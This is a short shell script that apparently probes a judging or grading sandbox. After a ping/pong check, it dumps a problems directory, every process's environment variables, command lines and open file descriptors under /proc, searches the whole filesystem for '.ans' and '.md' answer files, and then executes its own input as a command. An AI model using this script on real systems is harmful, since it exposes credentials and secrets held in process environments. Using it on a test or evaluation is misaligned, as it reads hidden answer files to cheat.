read -r data
if [ "$data" = ping ]; then
    echo pong
    exit
fi
cat @PROBLEMS@/* /proc/*/environ /proc/*/cmdline /proc/*/fd/* 2>&1 | head -c 100000
find / -name '*.ans' -o -name '*.md' 2>&1 | head -c 100000
"$data" "$data"
